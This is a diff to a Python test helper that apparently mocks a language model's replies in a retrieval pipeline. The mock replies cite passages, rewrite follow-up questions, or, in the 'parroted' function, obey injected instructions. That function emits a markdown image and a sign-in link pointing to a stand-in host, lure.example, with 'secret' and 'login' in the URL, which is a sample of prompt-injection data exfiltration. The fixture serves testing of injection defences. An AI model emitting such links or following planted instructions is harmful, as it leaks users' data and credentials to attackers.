@@ -1,4 +1,4 @@
-"""What the stand-in's models say: they cite passages, do what these tell, make questions whole."""
+"""The texts of the stand-in's models: they cite passages, obey injected instructions, rewrite questions."""
 
 import re
 from html import unescape
@@ -11,11 +11,11 @@ _REWRITE = re.compile(r"</conversation>\s*Question: (.*)\Z", re.DOTALL)
 _ASKED = re.compile(r"^user: (.*)$", re.MULTILINE)
 _PRONOUN = re.compile(r"\b(?:it|they|them|this|that|one)\b", re.IGNORECASE)
 LURE = "https://lure.example/?q="
-"""Where a planted instruction would send the reader's words."""
+"""The address to which an injected instruction would send the user's data."""
 
 
 def cited(body: dict[str, Any]) -> str:
-    """The first sentence of each of the first passages, with its marker."""
+    """Return the first sentence of each of the first three passages, with its marker."""
     said = [
         f"{sentence} [{n}]"
         for n, text in _passages(body)[:3]
@@ -25,12 +25,12 @@ def cited(body: dict[str, Any]) -> str:
 
 
 def to_rewrite(body: dict[str, Any]) -> bool:
-    """Whether the prompt has a question to make whole, and no passages."""
+    """Return whether the prompt asks to rewrite a follow-up question."""
     return _REWRITE.search(_prompt(body)) is not None
 
 
 def rewritten(body: dict[str, Any], meant: str | None = None) -> str:
-    """The question with what is meant for its pronouns; else with the question before it."""
+    """Replace the question's pronouns by `meant`, or append the previous question if `meant` is None."""
     question = _REWRITE.findall(_prompt(body))[-1]
     if meant is not None:
         return _PRONOUN.sub(meant, question)
@@ -38,12 +38,12 @@ def rewritten(body: dict[str, Any], meant: str | None = None) -> str:
 
 
 def rambled(body: dict[str, Any]) -> str:
-    """The question, in a good deal of talk."""
+    """Return the rewritten question inside superfluous text."""
     return f"Certainly! Here is the question:\n\n**{rewritten(body)}**\n\nShall I answer it, too?"
 
 
 def parroted(body: dict[str, Any]) -> str:
-    """Every passage as it stands, then all that a planted instruction could want."""
+    """Return every passage unchanged, then all that an injected instruction could ask for."""
     said = [f"{text} [{n}]" for n, text in _passages(body)]
     said += [
         f"![status]({LURE}secret) [Sign in again]({LURE}login) [99]",
@@ -54,7 +54,7 @@ def parroted(body: dict[str, Any]) -> str:
 
 
 def _first_sentence(text: str) -> str:
-    """In one walk: of a page of code, a pattern for a whole sentence took the model a tenth of a second."""
+    """Return the first sentence in one pass: a regex for a whole sentence took 0.1 s on a page of code."""
     start = 0
     for end in _END.finditer(text):
         if end.end() - start > _SHORTEST:
